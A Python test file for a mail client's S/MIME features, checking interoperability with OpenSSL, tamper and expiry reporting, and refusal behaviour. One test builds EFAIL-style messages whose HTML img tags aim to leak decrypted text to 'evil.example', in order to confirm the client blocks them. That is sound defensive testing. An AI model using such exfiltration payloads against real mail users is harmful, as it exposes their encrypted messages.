"""Signed and encrypted letters beside OpenSSL: what `pillarbox send` seals is opened and verified by `openssl cms`, what
`openssl cms` seals is read by `pillarbox mail read`, and what is wrong with a letter is told."""

import email
import json
from pathlib import Path

import house as houses
import programs
from house import ALICE, BOB, PASSWORDS
from programs import check

NEEDS = ("openssl",)
BINARY = Path(houses.BINARY).resolve()
SECRET = "The pickles are under the stairs."
LONG_AGO, YESTERDAY, FAR_AHEAD = "20200101000000Z", "20210101000000Z", "20400101000000Z"
CONFIGURATION = """[ca]
default_ca = here
[here]
dir = {folder}
database = {folder}/index.txt
new_certs_dir = {folder}
serial = {folder}/serial
certificate = {folder}/ca.pem
private_key = {folder}/ca.key
default_md = sha256
policy = any
unique_subject = no
[any]
commonName = supplied
"""
FOR_MAIL = """basicConstraints = CA:false
keyUsage = digitalSignature, keyEncipherment
extendedKeyUsage = emailProtection
subjectAltName = email:{address}
"""


def openssl(*words, given=b"", allowed=(0,)):
    return programs.run("openssl", *words, given=given, allowed=allowed)


class Authority:
    """Who vouches for keys."""

    def __init__(self, folder, name="House of Ketchup"):
        self.folder = folder
        folder.mkdir()
        (folder / "index.txt").write_text("")
        (folder / "serial").write_text("1000\n")
        (folder / "ca.cnf").write_text(CONFIGURATION.format(folder=folder))
        words = ("-subj", f"/CN={name}", "-days", "9999", "-keyout", folder / "ca.key", "-out", self.pem)
        openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", *words)

    @property
    def pem(self):
        return self.folder / "ca.pem"

    def key(self, address, until=FAR_AHEAD):
        """A key and a certificate for an address: paths of both, and of a key file with the password `crepes`."""
        place = self.folder / address.replace("@", "-at-")
        key, request, pem, extensions, p12 = (place.with_suffix(end) for end in (".key", ".csr", ".pem", ".ext", ".p12"))
        openssl("req", "-newkey", "rsa:2048", "-nodes", "-subj", f"/CN={address}", "-keyout", key, "-out", request)
        extensions.write_text(FOR_MAIL.format(address=address))
        dates = ("-startdate", LONG_AGO, "-enddate", until)
        words = ("-in", request, "-out", pem, "-extfile", extensions, "-notext", *dates)
        openssl("ca", "-batch", "-config", self.folder / "ca.cnf", *words)
        openssl("pkcs12", "-export", "-inkey", key, "-in", pem, "-certfile", self.pem, "-passout", "pass:crepes", "-out", p12)
        return key, pem, p12


class Person:
    """`pillarbox` for one person with an account over IMAP and submission."""

    def __init__(self, house, address, more=""):
        self.home = house.folder / address
        (self.home / "config").mkdir(parents=True)
        server = f'host = "localhost", trust = "{house.certificate}"'
        (self.home / "config/accounts.toml").write_text(
            f"""[[account]]
name = "mail"
address = "{address}"
incoming = {{ kind = "imap", port = {house.ports["imaps"]}, security = "tls", {server} }}
outgoing = {{ kind = "smtp", port = {house.ports["submissions"]}, security = "tls", {server} }}
secret = {{ kind = "command", command = "echo {PASSWORDS[address]}" }}
{more}
"""
        )

    def run(self, *words, given=b"", allowed=(0,)):
        environment = {"PILLARBOX_HOME": str(self.home), "MAILRC": "/dev/null"}
        return programs.run(BINARY, *words, given=given, allowed=allowed, env=environment)

    def has(self, p12, authority):
        """Brings in his key, and trusts the authority and nobody else."""
        self.run("mail", "key", "import", p12, "--password-stdin", given=b"crepes\n")
        self.run("mail", "key", "trust", "--system", "off")
        self.run("mail", "key", "trust", authority.pem)

    def read(self, which="last"):
        """A message as `--json` tells it."""
        self.run("mail", "sync")
        return json.loads(self.run("--json", "mail", "read", which))["messages"][0]


def world(house, more=""):
    """An authority, alice and bob, each with a key."""
    authority = Authority(house.folder / "authority")
    keys = {address: authority.key(address) for address in (ALICE, BOB)}
    alice, bob = Person(house, ALICE, more), Person(house, BOB)
    alice.has(keys[ALICE][2], authority)
    bob.has(keys[BOB][2], authority)
    alice.run("mail", "key", "import", keys[BOB][1])
    return authority, keys, alice, bob


def sealed_by_openssl(house, keys, signer, recipient, cipher="-aes-256-gcm"):
    """A letter to bob, signed and encrypted where keys are named."""
    content = f"Content-Type: text/plain\r\n\r\n{SECRET}\r\n".encode()
    fields = ("-from", ALICE, "-to", BOB, "-subject", "Pickles")
    plain, signed, sealed = (house.folder / name for name in ("plain", "signed", "sealed"))
    plain.write_bytes(content)
    if signer:
        words = ("-in", plain, "-signer", signer[1], "-inkey", signer[0], "-out", signed)
        openssl("cms", "-sign", *words, *(() if recipient else fields))
    if recipient:
        words = ("-in", signed if signer else plain, cipher, *fields, "-out", sealed, recipient[1])
        openssl("cms", "-encrypt", *words)
    return (sealed if recipient else signed).read_bytes()


def case_ours_is_opened_by_openssl(house):
    authority, keys, alice, bob = world(house)
    key, pem, _ = keys[BOB]
    for words in ((), ("--for-old-programs",)):
        given = SECRET.encode()
        said = alice.run("send", BOB, "-s", "Pickles", "--sign", "--encrypt", *words, given=given)
        check("is sent, signed and encrypted" in said, said)
        message = house.take_one()
        check(SECRET.encode() not in message and b"Pickles" not in message, "all of it is hidden")
        path, inner = house.folder / "ours.eml", house.folder / "inner"
        path.write_bytes(message)
        openssl("cms", "-decrypt", "-in", path, "-recip", pem, "-inkey", key, "-out", inner)
        found = openssl("cms", "-verify", "-in", inner, "-CAfile", authority.pem)
        check(SECRET in found and "Subject: Pickles" in found, found)
    alice.run("send", BOB, "-s", "Open", "--sign", given=SECRET.encode())
    path.write_bytes(house.take_one())
    check(SECRET in openssl("cms", "-verify", "-in", path, "-CAfile", authority.pem), "signed alone")
    sent = alice.run("mail", "search", "in:sent")
    check(sent.count("\n") == 3 and "Open" in sent, sent)
    hidden = [line.split("\t")[0] for line in sent.splitlines() if "Open" not in line]
    for number in hidden:
        copy = alice.run("mail", "read", number)
        check(SECRET in copy and "Subject: Pickles" in copy and f"Seal: Signed by {ALICE}; encrypted" in copy, copy)


def case_theirs_is_read_by_us(house):
    _, keys, _, bob = world(house)
    for cipher, recipient in (("-aes-256-gcm", keys[BOB]), ("-aes-256-cbc", keys[BOB]), (None, None)):
        house.put(sealed_by_openssl(house, keys, keys[ALICE], recipient, cipher).replace(b"\r\n", b"\n"))
        found = bob.read()
        seal = found["seal"]
        check(seal["signature"] == "valid" and seal["mark"] == "good", json.dumps(seal))
        check(seal["encrypted"] == bool(recipient) and SECRET in found["text"], json.dumps(found))
        house.take()
    # Her certificate came with the letter, so the answer can be encrypted; what is encrypted alone is not quoted.
    check(ALICE in bob.run("mail", "key", "list", "--place", "known"), "it is learnt")


def wrong(house, bob, message):
    house.put(message.replace(b"\r\n", b"\n"))
    found = bob.read()
    house.take()
    return found["seal"], found["text"], " ".join(found["seal"]["not_proved"])


def case_failures_are_told(house):
    authority, keys, _, bob = world(house)
    signed = sealed_by_openssl(house, keys, keys[ALICE], None)
    seal, _, told = wrong(house, bob, signed.replace(b"under the stairs", b"in the cellar.."))
    check(seal["signature"] == "tampered" and seal["mark"] == "bad" and "changed" in told, told)

    old = authority.key(ALICE, until=YESTERDAY)
    seal, text, told = wrong(house, bob, sealed_by_openssl(house, keys, old, None))
    check(seal["signature"] == "expired" and "expired" in told and SECRET in text, told)

    mallory = authority.key("mallory@hamburger.edu")
    seal, _, told = wrong(house, bob, sealed_by_openssl(house, keys, mallory, None))
    check(seal["signature"] == "wrong_address" and "mallory@hamburger.edu" in told, told)

    nobody = Authority(house.folder / "nobody", "House of Mustard").key(ALICE)
    seal, _, told = wrong(house, bob, sealed_by_openssl(house, keys, nobody, None))
    check(seal["signature"] == "untrusted" and "Nobody you trust" in told, told)

    seal, text, told = wrong(house, bob, sealed_by_openssl(house, keys, keys[ALICE], keys[ALICE]))
    check(seal["mark"] == "bad" and SECRET not in text and "not for any of your keys" in told, told)


def case_shapes_of_efail(house):
    """Ciphertext that can be changed is plain text alone; what stands around a sealed part is not joined with it."""
    _, keys, _, bob = world(house)
    html = house.folder / "html"
    html.write_bytes(f"Content-Type: text/html\r\n\r\n<img src='https://evil.example/{SECRET}'>{SECRET}\r\n".encode())
    words = ("-from", ALICE, "-to", BOB, "-subject", "Pickles", "-out", house.folder / "cbc", keys[BOB][1])
    openssl("cms", "-encrypt", "-in", html, "-aes-256-cbc", *words)
    message = (house.folder / "cbc").read_bytes()
    seal, text, told = wrong(house, bob, message)
    check(seal["mark"] == "bad" and "unauthenticated" in told, told)
    check("evil.example" not in text and SECRET not in text and "not shown" in text, text)
    refused = bob.run("mail", "read", "last", "--part", "1", allowed=(65,))
    check("not given out" in refused, refused)

    sealed = email.message_from_bytes(sealed_by_openssl(house, keys, None, keys[BOB]))
    around = (
        f"From: {ALICE}\nTo: {BOB}\nSubject: Pickles\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
        "--b\nContent-Type: text/html\n\n<img src='https://evil.example/\n--b\n"
        f"Content-Type: {sealed['Content-Type']}\nContent-Transfer-Encoding: base64\n\n{sealed.get_payload()}\n"
        "--b\nContent-Type: text/html\n\n'>\n--b--\n"
    )
    seal, text, told = wrong(house, bob, around.encode())
    check("Only one part" in told and SECRET in text and "evil.example" not in text, f"{told}\n{text}")


def case_refusals(house):
    """Nothing goes out less sealed than was asked, and what is missing is named."""
    _, _, alice, bob = world(house)
    refused = alice.run("send", "dora@crepes.fr", BOB, "-s", "x", "--encrypt", given=b"x", allowed=(65,))
    check("no certificate of dora@crepes.fr" in refused and BOB not in refused, refused)
    alice.run("mail", "key", "remove", ALICE, "--yes")
    refused = alice.run("send", BOB, "-s", "x", "--sign", given=b"x", allowed=(65,))
    check(f"no key of {ALICE}" in refused and "mail key import" in refused, refused)
    refused = alice.run("send", BOB, "-s", "x", "--encrypt", "--draft", given=b"x", allowed=(65,))
    check("not kept in the clear" in refused, refused)
    check(house.count() == 0, "nothing went out")


def case_answers_stay_secret(house):
    """What answers an encrypted letter is encrypted, and its text is quoted only where it is proved who wrote it."""
    _, keys, alice, bob = world(house)
    bob.run("mail", "key", "import", keys[ALICE][1])
    alice.run("send", BOB, "-s", "Pickles", "--sign", "--encrypt", given=SECRET.encode())
    bob.run("mail", "sync")
    said = bob.run("mail", "reply", "last", "-m", "I see.")
    check("is sent, encrypted" in said, said)
    answer = alice.read()
    check(f"> {SECRET}" in answer["text"] and answer["seal"]["encrypted"], json.dumps(answer))
    house.take(ALICE)
    house.take()
    # Encrypted alone: somebody may have found the envelope, and put his own name on it.
    house.put(sealed_by_openssl(house, keys, None, keys[BOB]).replace(b"\r\n", b"\n"))
    bob.run("mail", "sync")
    said = bob.run("mail", "reply", "last", "-m", "What is it?")
    check("text is left out" in said and "is sent, encrypted" in said, said)
    check(SECRET not in alice.read()["text"], "it is not told to who may not know it")


def case_habits(house):
    """`sign = "always"` and `encrypt = "when possible"` in the account's settings."""
    authority, _, alice, bob = world(house, 'sign = "always"\nencrypt = "when possible"')
    said = alice.run("send", BOB, "-s", "x", given=b"x")
    check("signed and encrypted" in said, said)
    said = alice.run("send", BOB, "dora@hamburger.edu", "-s", "x", "--queue", "--offline", given=b"x")
    check("queued, signed" in said and "encrypted" not in said, said)
    said = alice.run("send", BOB, "-s", "x", "--no-sign", "--no-encrypt", given=b"x")
    check("signed" not in said, said)


def case_drafts_of_secrets(house):
    """A draft that is to be encrypted lies at the server encrypted; so does a letter that was taken back."""
    _, _, alice, _ = world(house)
    alice.run("send", BOB, "-s", "Pickles", "--encrypt", "--draft", given=SECRET.encode())
    said = alice.run("send", BOB, "-s", "Pickles", "--encrypt", "--at", "+2h", given=SECRET.encode())
    check("goes out" in said and "encrypted" in said, said)
    alice.run("mail", "outbox", "cancel", "1")
    alice.run("mail", "sync")
    drafts = [line.split("\t")[0] for line in alice.run("mail", "search", "in:drafts").splitlines()]
    check(len(drafts) == 2, str(drafts))
    for number in drafts:
        raw = alice.run("mail", "read", number, "--raw")
        check(SECRET not in raw and "Pickles" not in raw, raw)
        check(SECRET in alice.run("mail", "read", number), "its writer reads it")
